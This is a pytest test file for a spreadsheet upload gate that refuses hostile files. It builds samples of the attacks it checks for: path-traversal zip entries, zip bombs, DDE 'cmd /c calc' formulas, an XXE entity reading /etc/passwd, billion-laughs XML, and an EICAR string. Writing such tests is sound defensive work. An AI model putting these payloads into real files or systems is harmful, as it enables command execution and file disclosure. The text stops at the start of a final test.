"""What is refused before it is read: each hostile or mistaken file with the code of its finding."""

from __future__ import annotations

import gzip
import io
import shutil
import socket
import struct
import subprocess
import sys
import threading
import time
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest
from workbooks import (
    HEAD,
    MAIN,
    MANIFEST,
    ODS_NAMES,
    OLE,
    content_types,
    member,
    ods_parts,
    ods_row,
    ods_rows,
    ods_text,
    patched,
    relation,
    relations,
    repeated,
    rows_xlsx,
    sheet_xml,
    with_parts,
    xlsx,
    xlsx_parts,
    zip_of,
    zipped,
)

from migstats import settings
from migstats.errors import ConfigurationError
from migstats.uploads import csv_file
from migstats.uploads.finding import CODES, Finding, RefusedFileError
from migstats.uploads.formula import reaches_out
from migstats.uploads.limits import Limits
from migstats.uploads.reading import read
from migstats.uploads.safety import KINDS, inspect

ROW = ods_row(ods_text("Maroc"))
#: The test file of antivirus programs, put together here so that no scanner takes this file for it.
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE" + "!$H+H*"


def refused(content: bytes, name: str = "permits.xlsx", **facts: object) -> Finding:
    """The finding with which a file is refused, by the gate or by its reader."""
    with pytest.raises(RefusedFileError) as caught:
        both(content, name, **facts)
    assert caught.value.finding.weight == "refused"
    return caught.value.finding


def both(content: bytes, name: str, **facts: object) -> None:
    kind = inspect(content, name, **facts).kind  # type: ignore[arg-type]
    read(content, kind, ["utf-8"], facts.get("limits"))  # type: ignore[arg-type]


def ole(stream: str) -> bytes:
    return OLE + b"\0" * 504 + stream.encode("utf-16-le") + b"\0" * 1024


def odf(kind: str) -> bytes:
    return zipped({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": "<x/>"})


def office(what: str) -> bytes:
    return zipped({"[Content_Types].xml": content_types(workbook=what), "xl/workbook.xml": "<x/>"})


# --- what it is (X01, X03, X04, S05) ---


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("a.xls", ole("Workbook"), "xls"),
        ("a.xlsx", ole("Workbook"), "xls"),
        ("a.xlsx", ole("Book"), "xls"),
        ("a.doc", ole("WordDocument"), "doc"),
        ("a.xlsx", ole("Other"), "other_office"),
        ("a.xls", b"<html><table><tr><td>1</td></tr></table></html>", "html"),
        ("a.xls", b"\xef\xbb\xbf<!-- saved --> <TABLE><tr>", "html"),
        ("a.xls", "<html>".encode("utf-16"), "html"),
        ("a.xls", b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "mail"),
        ("a.xls", b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>', "xml_spreadsheet"),
        ("a.xml", b'<?xml version="1.0"?><office:document xmlns:office="x"/>', "flat_ods"),
        ("a.csv", b'<?xml version="1.0"?><data/>', "xml"),
        ("a.csv", b'{"rows": []}', "json"),
        ("a.xls", b"ID;PWXL;N;E\r\nP;PGeneral", "sylk"),
        ("a.xls", b"Pays;2024\r\nMaroc;12\r\n", "csv"),
        ("a.xlsx", b"Pays;2024\r\nMaroc;12\r\n", "csv"),
        ("a.csv", xlsx(), "xlsx"),
        ("a.xlsm", xlsx(), "xlsx"),
        ("permits", xlsx(), "xlsx"),
        ("a.xlsx", ods_rows(ROW), "ods"),
        ("a.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "pdf"),
        ("a.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "pdf"),
        ("a.csv", b"junk\n%PDF-1.4 ", "pdf"),
        ("a.docx", office("openxmlformats-officedocument.wordprocessingml.document"), "docx"),
        ("a.xlsx", office("openxmlformats-officedocument.wordprocessingml.document"), "docx"),
        ("a.xlsx", office("openxmlformats-officedocument.presentationml.presentation"), "pptx"),
        ("a.xlsx", office("ms-excel.sheet.binary.macroEnabled"), "xlsb"),
        ("a.ods", odf("text"), "odt"),
        ("a.ods", odf("presentation"), "odp"),
        ("a.numbers", zipped({"Index/Document.iwa": b"\0\1"}), "numbers"),
        ("a.xlsx", zipped({"Index/Document.iwa": b"\0\1"}), "numbers"),
        ("a.xlsx", zipped({"permits.csv": "a;b"}), "zip"),
        ("a.rtf", b"{\\rtf1\\ansi", "rtf"),
        ("a.xlsx", b"\x89PNG\r\n\x1a\n\0\0", "image"),
        ("a.csv", b"\xff\xd8\xff\xe0\0\x10JFIF", "image"),
        ("a.csv", gzip.compress(b"a;b", mtime=0), "gzip"),
        ("a.csv", b"7z\xbc\xaf\x27\x1c\0\4", "archive"),
        ("a.csv", b"$FL2@(#) SPSS DATA FILE\0\0\2\0", "statistics"),
        ("a.csv", b"SQLite format 3\0\x10", "database"),
        ("a.csv", b"MZ\x90\0\3\0", "program"),
        ("a.csv", b"\0\1\2\3", "unknown"),
    ],
)  # fmt: skip
def test_a_file_of_another_kind_is_told_what_it_is(name: str, content: bytes, kind: str) -> None:
    finding = refused(content, name)
    assert (finding.code, finding.words["kind"]) == ("wrong_kind", kind)
    assert kind in KINDS


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("Permis de travail.XLSX", xlsx(), "xlsx"),
        ("C:\\Users\\me\\a.b.xlsx", xlsx(), "xlsx"),
        ("a.ods", ods_rows(ROW), "ods"),
        ("a.csv", b"Pays;2024\nMaroc;12", "csv"),
        ("a.txt", "Pays\t2024".encode("utf-16"), "csv"),
        ("a.tsv", b"BMI\t2024", "csv"),
        ("a.csv", "MZ;Mozambique\nРоссия;1".encode("cp1251"), "csv"),
    ],
)
def test_a_file_that_is_what_it_is_called_is_let_through(name: str, content: bytes, kind: str) -> None:
    inspected = inspect(content, name)
    assert (inspected.kind, inspected.scanned) == (kind, False)


@pytest.mark.parametrize("content", [b"", b"\xef\xbb\xbf", b" \r\n\t\n", b"\xff\xfe"])
def test_an_empty_file_says_so(content: bytes) -> None:
    """X01."""
    assert refused(content, "a.csv").code == "empty_file"


def test_a_workbook_in_which_nothing_stands_says_so() -> None:
    """X01."""
    assert refused(rows_xlsx("")).code == "empty_file"
    assert refused(ods_rows(ods_row("<table:table-cell/>")), "a.ods").code == "empty_file"


def test_a_file_with_a_password_says_so() -> None:
    """X04: an encrypted workbook is an OLE container; an encrypted zip or ODS says it itself."""
    assert refused(ole("EncryptedPackage")).code == "password"
    encrypted = patched(xlsx(), "xl/workbook.xml", 8, b"\1\0")
    assert refused(encrypted).code == "password"
    parts = ods_parts("<table:table/>")
    parts["META-INF/manifest.xml"] = MANIFEST.format(
        '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
    )
    assert refused(zipped(parts), "a.ods").code == "password"


# --- size (S06) ---


def test_a_file_beyond_the_size_is_refused_and_not_read(tmp_path: Path) -> None:
    """S06: the size of a file on disk is asked before anything of it is read."""
    file = tmp_path / "big.xlsx"
    with file.open("wb") as sparse:
        sparse.truncate(40 * 2**30)
    with pytest.raises(RefusedFileError) as caught:
        inspect(file, "big.xlsx")
    assert (caught.value.finding.code, caught.value.finding.words["limit"]) == ("too_big", "25")
    assert refused(b"a;b\n" * 10, "a.csv", limits=Limits(size=39)).code == "too_big"


def test_the_size_is_a_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MIGSTATS_UPLOAD_MB", "1")
    assert refused(b"a;b\n" * 300_000, "a.csv").words["limit"] == "1"
    monkeypatch.setenv("MIGSTATS_UPLOAD_MB", "much")
    with pytest.raises(ConfigurationError, match="MIGSTATS_UPLOAD_MB"):
        settings.upload_bytes()


# --- the zip (X02, X06, S05, S22) ---


def with_duplicate() -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return zip_of(*xlsx_parts().items(), ("XL/workbook.xml", "<x/>"))


@pytest.mark.parametrize(
    ("code", "content"),
    [
        ("damaged", xlsx()[:-40]),  # X02
        ("damaged", xlsx()[: len(xlsx()) // 2]),
        ("damaged", xlsx() + b"%PDF-1.7"),  # S05
        ("damaged", xlsx() + b"\0" * 70_000),
        ("damaged", b"PK\3\4 not a zip at all"),
        ("damaged", b"PK\3\4" + b"junk" * 5 + xlsx()),
        ("unsafe_path", with_duplicate()),
        ("unsafe_path", with_parts({"../../etc/cron.d/x": "a"})),  # S22
        ("unsafe_path", with_parts({"/etc/passwd": "a"})),
        ("unsafe_path", with_parts({"xl\\..\\x.xml": "a"})),
        ("unsafe_path", with_parts({"C:/x.xml": "a"})),
        ("unsafe_path", zip_of(*xlsx_parts().items(), (member("xl/link.xml", "", 0o120777), "/etc/passwd"))),
        ("unsafe_path", zip_of(*xlsx_parts().items(), (member("xl/pipe", "", 0o010644), ""))),
        ("damaged", patched(xlsx(), "xl/workbook.xml", 30, b"xl/workbooq.xml", local=True)),
        ("damaged", patched(xlsx(), "xl/workbook.xml", 22, b"\1\0\0\0", local=True)),
        ("damaged", patched(xlsx(), "xl/workbook.xml", 24, b"\1\0\0\0")),
        ("damaged", patched(xlsx(), "xl/workbook.xml", 16, b"\1\2\3\4")),
        ("damaged", patched(xlsx(), "xl/workbook.xml", 10, b"\x0c\0")),
        ("damaged", zipped(xlsx_parts(), zipfile.ZIP_BZIP2)),  # these unpack without a bound
        ("damaged", zipped(xlsx_parts(), zipfile.ZIP_LZMA)),
        ("damaged", patched(xlsx(), "xl/workbook.xml", 42, b"\0\0\0\0")),  # two names for one place
        ("unpacks_too_big", patched(xlsx(), "xl/workbook.xml", 24, b"\xff\xff\xff\xff")),  # zip64 without its field
    ],
)  # fmt: skip
def test_a_zip_that_is_broken_or_lies_is_refused(code: str, content: bytes) -> None:
    assert refused(content).code == code


def test_a_zip64_end_record_that_says_otherwise_is_refused() -> None:
    content = xlsx()
    at = content.rindex(b"PK\5\6")
    count, size, offset = struct.unpack_from("<H2L", content, at + 10)
    for told in (count + 1, count):
        end64 = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, told, told, size, offset)
        locator = struct.pack("<4sLQL", b"PK\6\7", 0, at, 1)
        made = content[:at] + end64 + locator + content[at:]
        if told == count:
            assert inspect(made, "a.xlsx").kind == "xlsx"
        else:
            assert refused(made).code == "damaged"


def test_a_workbook_that_was_written_as_a_stream_is_no_liar() -> None:
    """Its sizes stand behind each member, or in the fields of zip64."""

    class Stream(io.RawIOBase):
        def __init__(self) -> None:
            self.content = b""

        def writable(self) -> bool:
            return True

        def write(self, piece: bytes) -> int:  # type: ignore[override]
            self.content += bytes(piece)
            return len(piece)

    stream = Stream()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in xlsx_parts().items():
            with archive.open(name, "w", force_zip64=True) as part:
                part.write(content.encode() if isinstance(content, str) else content)
    assert inspect(stream.content, "a.xlsx").kind == "xlsx"


SHEET = (sheet_xml("|")).encode().split(b"|")
SHEET1 = "xl/worksheets/sheet1.xml"


def test_how_hard_a_member_was_packed_may_be_told_once() -> None:
    """Some programs set the bits of the level in one of the two headers alone; those of a password count."""
    assert inspect(patched(xlsx(), "xl/workbook.xml", 6, b"\2\0", local=True), "a.xlsx").kind == "xlsx"
    assert refused(patched(xlsx(), "xl/workbook.xml", 6, b"\1\0", local=True)).code == "damaged"


def bomb_of_rows() -> bytes:
    return repeated(SHEET1, SHEET[0], b"<row><c><v>1</v></c></row>" * 40_000, 300, SHEET[1])


def bomb_of_strings() -> bytes:
    head = f'<sst xmlns="{MAIN}"><si><t>'.encode()
    return repeated("xl/sharedStrings.xml", head, b"A" * 1_000_000, 300, b"</t></si></sst>")


def just_within() -> bytes:
    """As much as may be unpacked at all, of rows that are no bomb by their ratio."""
    block = b"".join(b"<row><c><v>%d</v></c></row>" % (number % 50) for number in range(8_000))
    return repeated(SHEET1, SHEET[0], block, 250 * 2**20 // len(block), SHEET[1])


def bomb_of_relations() -> bytes:
    """Nothing by its size; but the gate itself parses it."""
    head, tail = relations("|").encode().split(b"|")
    lines = b"".join(
        b'<Relationship Id="r%d" Type="a/hyperlink" Target="b"/>' % (number % 50) for number in range(9_000)
    )
    return repeated("xl/worksheets/_rels/sheet1.xml.rels", head, lines, 200, tail)


def nested_bomb() -> bytes:
    return with_parts({"xl/inner.bin": zipped({"b": zipped({"a": "0" * 5_000_000})})})


def many_members() -> bytes:
    return with_parts({f"xl/media/{number}.xml": "" for number in range(2_000)})


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="peaks of memory are read from /proc")
@pytest.mark.parametrize(
    ("make", "code"),
    [
        (bomb_of_rows, "unpacks_too_big"),
        (bomb_of_strings, "unpacks_too_big"),
        (bomb_of_relations, "unpacks_too_big"),
        (nested_bomb, "embedded_object"),
        (many_members, "too_many_members"),
        (just_within, "xlsx"),
    ],
)
def test_a_bomb_is_refused_in_two_seconds_and_300_mb(make: Callable[[], bytes], code: str, tmp_path: Path) -> None:
    """X06: measured in a process of its own, which also must not grow."""
    file = tmp_path / "bomb.xlsx"
    file.write_bytes(make())
    assert file.stat().st_size < 25 * 2**20
    measured = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(file)], capture_output=True, text=True, check=True, timeout=60
    ).stdout.split()
    assert measured[0] == code
    assert float(measured[1]) < 2
    assert float(measured[2]) < 300


_MEASURE = """
import sys, time
from pathlib import Path
from migstats.uploads.finding import RefusedFileError
from migstats.uploads.safety import inspect
began = time.process_time()
try:
    code = inspect(Path(sys.argv[1]), "bomb.xlsx").kind
except RefusedFileError as error:
    code = error.finding.code
seconds = time.process_time() - began
peak = next(line for line in Path("/proc/self/status").read_text().splitlines() if line.startswith("VmHWM"))
print(code, seconds, int(peak.split()[1]) / 1024)
"""


def test_a_member_that_unpacks_to_more_than_it_says_is_cut() -> None:
    """The size in the directory is the most that is ever unpacked; its checksum then fails."""
    content = xlsx_parts()
    content["xl/worksheets/sheet1.xml"] = sheet_xml("<row/>" * 500_000)
    packed = zipped(content)
    for local, offset in ((False, 24), (True, 22)):
        packed = patched(packed, "xl/worksheets/sheet1.xml", offset, struct.pack("<L", 1000), local=local)
    assert refused(packed).code == "damaged"


# --- what runs or reaches out (X11, S21) ---

VBA = '<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
DDE_LINK = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
BOOK_RELS = "xl/_rels/workbook.xml.rels"
SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"


def book_relation(kind: str, target: str = "x.xml", mode: str = "") -> dict[str, str | bytes]:
    return {
        BOOK_RELS: relations(
            relation("rId1", "worksheet", "worksheets/sheet1.xml"), relation("rId9", kind, target, mode)
        )
    }


def formula(text: str) -> bytes:
    return rows_xlsx(f'<row r="3"><c r="B3"><f>{text}</f><v>1</v></c></row>')


@pytest.mark.parametrize(
    ("code", "content"),
    [
        ("macros", with_parts({"xl/vbaProject.bin": OLE})),
        ("macros", with_parts({"[Content_Types].xml": content_types(VBA), "xl/vbaProject.bin": b"x"})),
        ("macros", with_parts({"xl/macrosheets/sheet1.xml": "<x/>"})),
        ("macros", with_parts({"[Content_Types].xml": content_types(workbook="ms-excel.sheet.macroEnabled")})),
        ("macros", with_parts(book_relation("xlMacrosheet"))),
        ("macros", with_parts(book_relation("vbaProject"))),
        ("macros", xlsx(book='|<definedNames><definedName name="_xlnm.Auto_Open">x</definedName></definedNames>')),
        ("macros", xlsx(book='|<definedNames><definedName name="a" xlm="1">x</definedName></definedNames>')),
        ("external_link", with_parts({"xl/externalLinks/externalLink1.xml": "<externalLink/>"})),
        ("external_link", with_parts(book_relation("externalLinkPath", "file:///srv/x.xlsx", "External"))),
        ("external_link", with_parts({SHEET_RELS: relations(relation("r1", "image", "http://10.0.0.1/a",
         "External"))})),
        ("external_link", with_parts(book_relation("attachedTemplate", "http://example.org/t.xltx", "External"))),
        ("external_link", with_parts(book_relation("worksheet", "https://example.org/a.xml"))),
        ("external_link", with_parts({"xl/connections.xml": "<connections/>"})),
        ("external_link", with_parts({"xl/queryTables/queryTable1.xml": "<queryTable/>"})),
        ("external_link", with_parts({"xl/model/item.data": b"x"})),
        ("external_link", with_parts({"customXml/item1.xml": '<DataMashup xmlns="x">AAAA</DataMashup>'})),
        ("active_formula", with_parts({"xl/externalLinks/externalLink1.xml": DDE_LINK})),
        ("embedded_object", with_parts({"xl/embeddings/oleObject1.bin": OLE})),
        ("embedded_object", with_parts({"xl/embeddings/Microsoft_Excel.xlsx": xlsx()})),
        ("embedded_object", with_parts({"xl/media/image1.png": OLE})),
        ("embedded_object", with_parts({"xl/media/image1.png": b"MZ\x90\0"})),
        ("embedded_object", with_parts({"xl/activeX/activeX1.xml": "<x/>"})),
        ("embedded_object", with_parts({SHEET_RELS: relations(relation("r1", "oleObject", "../x.bin"))})),
        ("embedded_object", xlsx(sheet_xml(after='<oleObjects><oleObject progId="Package"/></oleObjects>'))),
        ("active_formula", formula("cmd|'/c calc'!A1")),
        ("active_formula", formula("1+cmd&#124;&#39;/c calc&#39;!A1")),
        ("active_formula", formula("DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)")),
        ("active_formula", formula("_xlfn.WEBSERVICE(&quot;http://10.0.0.1/&quot;&amp;A1)")),
        ("active_formula", formula("IF(A1,RTD(&quot;x&quot;,,1),0)")),
        ("external_link", formula("'[budget.xlsx]Sheet1'!A1")),
        ("external_link", formula("'\\\\server\\share\\[b]s'!A1")),
        ("active_formula",
         xlsx(book="|<definedNames><definedName name='a'>cmd|'/c calc'!A1</definedName></definedNames>")),
    ],
)  # fmt: skip
def test_what_runs_or_reaches_out_of_a_workbook_is_refused(code: str, content: bytes) -> None:
    assert refused(content).code == code


def test_a_formula_that_calls_a_program_is_named_with_its_cell() -> None:
    finding = refused(formula("cmd|'/c calc'!A1"))
    assert (finding.sheet, finding.row, finding.column, finding.seen) == ("Sheet1", 3, 2, "=cmd|'/c calc'!A1")


@pytest.mark.parametrize(
    "text",
    [
        "=SUM(B2:B9)",
        '=IF(A1="cmd|\'/c calc\'!A1","call (later)",0)',
        '=HYPERLINK("https://example.org/data.xlsx","source")',
        "=SUM('Labour permits'!B2:B9)",
        "=SUM(Table1[[#This Row],[Permits]])",
        "=RECALL(1)+A1.CALL",
        "=INDIRECT(A1)",
        "=SUM([.B2:.B9])",
        "=VLOOKUP(A2,codes!$A$1:$B$200,2,FALSE)",
    ],
)
def test_an_ordinary_formula_is_none_that_reaches_out(text: str) -> None:
    assert reaches_out(text) is None


def test_a_formula_made_to_keep_the_search_busy_does_not() -> None:
    began = time.process_time()
    for text in (
        "a" * 32_000 + "|",
        "[" * 32_000,
        "'" * 32_000,
        "com.sun.star." * 2_400,
        '"' * 31_999,
        "a.b|" * 8_000,
        "'" + "|" * 32_000,
        "'a|" * 10_000,
        "a|'" * 10_000,
        "a" + " " * 32_000 + "|",
        "a|" + " " * 32_000,
        "[.xl" * 8_000,
        "[" + ".xl" * 10_000,
        "_a." * 10_000,
        "CUBE" * 8_000,
        "a|" + "b" * 32_000,
    ):
        reaches_out(text + "(")
    assert time.process_time() - began < 2


@pytest.mark.parametrize("end", [b"x", b"<table>"])
def test_comments_before_a_page_do_not_keep_the_look_at_it_busy(end: bytes) -> None:
    began = time.process_time()
    assert refused(b"<!---->" * 500 + end).words["kind"] == ("html" if end == b"<table>" else "csv")
    assert time.process_time() - began < 1


def test_hyperlinks_and_printer_settings_are_harmless() -> None:
    content = with_parts(
        {
            SHEET_RELS: relations(
                relation("r1", "hyperlink", "https://example.org/", "External"),
                relation("r2", "printerSettings", "../printerSettings/printerSettings1.bin"),
            ),
            "xl/printerSettings/printerSettings1.bin": b"P\0D\0F\0",
            "xl/ctrlProps/ctrlProp1.xml": "<x/>",
        }
    )
    assert inspect(content, "a.xlsx").kind == "xlsx"


def ods_with(more: dict[str, str | bytes], body: str = ROW, **facts: str) -> bytes:
    return zipped({**ods_parts(f'<table:table table:name="S">{body}</table:table>', **facts), **more})


@pytest.mark.parametrize(
    ("code", "content"),
    [
        ("macros", ods_with({"Basic/Standard/Module1.xml": "<x/>"})),
        ("macros", ods_with({"Scripts/python/x.py": "x"})),
        ("macros", ods_with({}, scripts='<office:script script:language="JavaScript">x()</office:script>')),
        (
            "macros",
            ods_with(
                {},
                scripts="<office:event-listeners><script:event-listener script:event-name='dom:load'/>"
                "</office:event-listeners>",
            ),
        ),
        ("active_formula", ods_with({}, "<office:dde-source office:dde-application='cmd'/>" + ROW)),
        ("active_formula", ods_with({}, "<table:dde-links><table:dde-link/></table:dde-links>" + ROW)),
        ("external_link", ods_with({}, "<table:table-source xlink:href='a.ods'/>" + ROW)),
        (
            "external_link",
            ods_with({},
             f"<table:shapes><draw:frame><draw:image xlink:href='http://x/a.png'/></draw:frame></table:shapes>{ROW}"),
        ),
        ("embedded_object", ods_with({},
         "<table:shapes><draw:frame><draw:object-ole/></draw:frame></table:shapes>" + ROW)),
        (
            "active_formula",
            ods_with({}, ods_row("<table:table-cell table:formula='of:=DDE(&quot;soffice&quot;;&quot;x&quot;)'/>")),
        ),
        (
            "external_link",
            ods_with({}, ods_row('<table:table-cell table:formula="of:=[\'file:///srv/x.ods\'#$S.A1]"/>')),
        ),
        ("embedded_object", ods_with({"ObjectReplacements/x": OLE})),
        ("damaged", ods_with({"content.xml": "<x>"})),
    ],
)  # fmt: skip
def test_what_runs_or_reaches_out_of_an_ods_is_refused(code: str, content: bytes) -> None:
    assert refused(content, "a.ods").code == code


def test_links_in_the_text_of_an_ods_are_harmless() -> None:
    link = (
        '<table:table-cell><text:p><text:a xlink:href="https://example.org">source</text:a></text:p></table:table-cell>'
    )
    assert read(ods_rows(ods_row(link)), "ods", []).sheets[0].cells[1, 1].text == "source"


# --- document types (X10) ---

LAUGHS = (
    '<?xml version="1.0"{}?><!DOCTYPE lolz [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + f']><worksheet xmlns="{MAIN}"><sheetData><row><c t="str"><v>&i;</v></c></row></sheetData></worksheet>'
)
XXE = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sst xmlns="{MAIN}"><si><t>&e;</t></si></sst>'
EBCDIC = f'<?xml version="1.0" encoding="cp037"?>{XXE}'.encode("cp037")


@pytest.mark.parametrize(
    "part",
    ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "docProps/app.xml", "xl/theme/theme1.xml", "xl/drawings/d.vml"],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_type_is_refused_in_any_part_and_encoding(part: str, encoding: str) -> None:
    """X10: billion laughs, as UTF-16 as well."""
    text = LAUGHS.format(' encoding="UTF-16"' if encoding == "utf-16" else "")
    assert refused(with_parts({part: text.encode(encoding)})).code == "doctype"


def test_a_document_type_is_found_across_the_pieces_in_which_a_part_is_read() -> None:
    for before in range(256 * 1024 - 40, 256 * 1024 + 2):
        if before % 7 == 0:
            text = "<!--" + "x" * (before - 7) + "--><!DOCTYPE x><x/>"
            assert refused(with_parts({"xl/theme/theme1.xml": text})).code == "doctype"


def test_the_parser_itself_knows_no_document_type_and_no_strange_encoding() -> None:
    """As a part that does not look like XML reaches it."""
    for text in (LAUGHS.format(""), f'<!DOCTYPE x SYSTEM "http://10.0.0.1/x.dtd">{sheet_xml().removeprefix(HEAD)}'):
        with pytest.raises(RefusedFileError, match="doctype"):
            read(with_parts({"xl/worksheets/sheet1.xml": text}), "xlsx", [])
    assert refused(with_parts({"xl/worksheets/sheet1.xml": EBCDIC})).code == "damaged"
    utf7 = f'<?xml version="1.0" encoding="utf-7"?><worksheet xmlns="{MAIN}"/>'
    assert refused(with_parts({"xl/worksheets/sheet1.xml": utf7})).code == "damaged"


def test_a_document_type_is_refused_in_an_ods() -> None:
    parts = ods_parts("")
    parts["content.xml"] = f"<!DOCTYPE x>{HEAD}<office:document-content {ODS_NAMES}/>"
    assert refused(zipped(parts), "a.ods").code == "doctype"


# --- far cells (X07) ---


@pytest.mark.parametrize("place", ["XFD1048576", "A1048576", "XFD1", "A300001", "ALM1"])
def test_a_far_cell_that_holds_something_is_refused_with_its_address(place: str) -> None:
    row = "".join(one for one in place if one.isdigit())
    finding = refused(rows_xlsx(f'<row r="{row}"><c r="{place}"><v>1</v></c></row>'))
    assert (finding.code, finding.row) == ("far_cell", int(row))


def test_far_cells_that_hold_nothing_are_cut_away() -> None:
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576" hidden="1"><c r="XFD1048576" s="0"/></row>'
    cols, merge = (
        '<cols><col min="1" max="16384" hidden="1"/></cols>',
        '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
    )
    content = xlsx(sheet_xml(rows, cols, merge))
    sheet = read(content, "xlsx", []).sheets[0]
    assert (set(sheet.cells), sheet.hidden_columns, sheet.hidden_rows, sheet.merged) == ({(1, 1)}, {1}, frozenset(), ())


def test_what_an_ods_repeats_to_the_end_of_the_sheet_counts_only_where_something_stands() -> None:
    far = 'table:number-columns-repeated="16384"'
    rows = ods_row(ods_text("a"), f"<table:table-cell {far}/>") + ods_row(
        f"<table:table-cell {far}/>", attributes='table:number-rows-repeated="1048575"'
    )
    assert len(read(ods_rows(rows), "ods", []).sheets[0].cells) == 1
    assert refused(ods_rows(ods_row(ods_text("a", far))), "a.ods").code == "far_cell"
    many = ods_row(
        ods_text("a", 'table:number-columns-repeated="900"'), attributes='table:number-rows-repeated="250000"'
    )
    assert refused(ods_rows(many), "a.ods", limits=Limits(cells=10_000)).code == "too_many_cells"
    endless = ods_row(ods_text("a"), attributes='table:number-rows-repeated="99999999999999"')
    assert refused(ods_rows(endless), "a.ods").code == "damaged"


# --- antivirus (S24) ---


class Clamd:
    """A daemon that speaks INSTREAM as clamd does."""

    def __init__(self, answer: bytes | None = None, address: str | None = None) -> None:
        self.answer = answer
        self.content = b""
        family = socket.AF_UNIX if address else socket.AF_INET
        self.server = socket.socket(family)
        self.server.bind(address or ("127.0.0.1", 0))
        self.server.listen()
        self.address = address or f"127.0.0.1:{self.server.getsockname()[1]}"
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        try:
            talk, _ = self.server.accept()
        except OSError:
            return
        with talk, talk.makefile("rwb") as file:
            assert file.read(10) == b"zINSTREAM\0"
            while size := struct.unpack("!L", file.read(4))[0]:
                self.content += file.read(size)
            found = b"stream: Eicar-Test-Signature FOUND\0" if EICAR.encode() in self.content else b"stream: OK\0"
            file.write(self.answer if self.answer is not None else found)
            file.flush()

    def stop(self) -> None:
        self.server.close()
        self.thread.join(timeout=5)


@pytest.fixture
def clamd() -> Iterator[Clamd]:
    running = Clamd()
    yield running
    running.stop()


def test_a_file_with_a_virus_is_refused(clamd: Clamd, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MIGSTATS_SCANNER", clamd.address)
    finding = refused(f"a;b\n{EICAR};1\n".encode(), "a.csv")
    assert (finding.code, finding.words["name"]) == ("virus", "Eicar-Test-Signature")


def test_a_clean_file_is_sent_whole_and_said_to_be_scanned(tmp_path: Path) -> None:
    daemon = Clamd(address=str(tmp_path / "clamd.sock"))
    content = b"a;b\n" + b"1;2\n" * 100_000
    assert inspect(content, "a.csv", scanner=f"unix:{daemon.address}").scanned
    daemon.stop()
    assert daemon.content == content


@pytest.mark.parametrize("answer", [b"", b"INSTREAM size limit exceeded. ERROR\0", b"stream: OK? no\0", b"\0"])
def test_an_answer_that_is_not_clear_lets_nothing_through(answer: bytes) -> None:
    daemon = Clamd(answer)
    assert refused(b"a;b\n1;2\n", "a.csv", scanner=daemon.address).code == "scanner_away"
    daemon.stop()


@pytest.mark.parametrize("address", ["127.0.0.1:1", "/nowhere/clamd.sock", "nonsense", "127.0.0.1:port"])
def test_a_scanner_that_is_away_lets_nothing_through(address: str) -> None:
    assert refused(b"a;b\n1;2\n", "a.csv", scanner=address).code == "scanner_away"


@pytest.fixture
def real_clamd(tmp_path: Path) -> Iterator[str]:
    """The socket of a real clamd with one signature of its own: it needs no download."""
    program = shutil.which("clamd")
    if program is None:
        pytest.skip("clamd is not installed: only its protocol is tested")
    tmp_path.chmod(0o755)
    (tmp_path / "signatures").mkdir()
    (tmp_path / "signatures" / "own.ndb").write_text(f"Planted.Test:0:*:{EICAR.encode().hex()}\n", encoding="utf-8")
    address = tmp_path / "clamd.sock"
    lines = [
        f"DatabaseDirectory {tmp_path}/signatures",
        f"LocalSocket {address}",
        "Foreground yes",
        "StreamMaxLength 1M",
    ]
    (tmp_path / "clamd.conf").write_text("\n".join(lines) + "\n", encoding="utf-8")
    daemon = subprocess.Popen([program, "-c", str(tmp_path / "clamd.conf")], stdout=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while not address.exists():
        assert daemon.poll() is None, daemon.stdout and daemon.stdout.read()
        assert time.monotonic() < deadline, "clamd does not listen"
        time.sleep(0.1)
    yield str(address)
    daemon.terminate()
    daemon.communicate(timeout=30)


def test_a_real_clamd_finds_a_virus_in_a_packed_workbook_and_lets_others_through(
    real_clamd: str, tmp_path: Path
) -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = "Maroc"
    book.save(tmp_path / "a.xlsx")
    assert inspect(tmp_path / "a.xlsx", "a.xlsx", scanner=real_clamd).scanned
    book.active["A1"] = EICAR
    book.save(tmp_path / "b.xlsx")
    finding = refused((tmp_path / "b.xlsx").read_bytes(), "b.xlsx", scanner=real_clamd)
    assert (finding.code, finding.words["name"]) == ("virus", "Planted.Test.UNOFFICIAL")
    too_big = b"a;b\n" + b"1;2\n" * 500_000
    assert refused(too_big, "a.csv", scanner=real_clamd).code == "scanner_away"


# --- all together ---


def test_every_code_that_is_raised_is_one() -> None:
